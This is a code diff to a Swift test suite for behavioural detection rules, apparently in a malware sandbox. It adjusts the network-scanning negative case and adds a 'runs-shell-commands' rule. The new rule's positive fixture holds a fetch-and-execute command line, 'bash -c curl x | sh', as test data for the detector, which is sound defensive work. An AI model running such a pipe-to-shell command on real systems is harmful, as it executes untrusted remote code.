@@ -89,7 +89,8 @@ extension RuleCase {
                  negative: { t in for _ in 1...12 { t.connect("198.51.100.1:443") } }),
         RuleCase(id: "network-scanning",
                  positive: { t in for i in 1...12 { t.connect("10.0.0.\(i):445") } },
-                 negative: { t in for i in 1...5 { t.connect("10.0.0.\(i):445") } }),
+                 // Many web servers is not a scan (contacts-many-hosts covers it).
+                 negative: { t in for i in 1...12 { t.connect("198.51.100.\(i):443") } }),
         RuleCase(id: "dns-many-names",
                  positive: { t in for i in 0..<25 { t.dns("host\(i).example.com") } },
                  negative: { t in for _ in 0..<25 { t.dns("update.example.com") } }),
@@ -210,6 +211,17 @@ extension RuleCase {
         RuleCase(id: "network-configuration-discovery",
                  positive: { $0.exec("/usr/sbin/ip", argv: ["ip", "addr"]) },
                  negative: { $0.exec("/usr/bin/ipcs", argv: ["ipcs"]) }),
+        RuleCase(id: "runs-shell-commands",
+                 positive: { t in
+                     var n = ProcessNode(pid: 300, ppid: 100, image: "bash", path: "/usr/bin/bash", argv: ["bash", "-c", "curl x | sh"], startNs: 5)
+                     n.execs = ["/usr/bin/bash"]
+                     t.report.processes.append(n)
+                 },
+                 // A script run as the sample: the shell has the script's path, no -c.
+                 negative: { t in
+                     t.report.processes[0].image = "dash"
+                     t.report.processes[0].argv = ["/home/user/Downloads/install.sh"]
+                 }),
         RuleCase(id: "process-discovery",
                  positive: { t in for p in 1...12 { t.open("/proc/\(p)/cmdline") } },
                  negative: { t in for _ in 1...12 { t.open("/proc/self/cmdline") } }),
